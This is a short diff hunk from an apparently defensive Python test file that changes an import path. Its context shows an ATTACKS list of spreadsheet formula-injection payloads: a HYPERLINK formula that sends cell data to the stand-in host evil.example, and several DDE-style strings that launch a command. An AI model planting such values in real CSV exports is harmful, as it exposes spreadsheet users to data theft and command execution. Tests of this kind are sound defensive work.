@@ -15,7 +15,7 @@ import pytest
 
 from vault.customers.errors import InvalidFieldError
 from vault.customers.importer import check_header
-from vault.customers.normalize import name, strip
+from vault.policy.normalize import name, strip
 from vault.privacy.writer import StagedFile, neutralize, write_rows
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
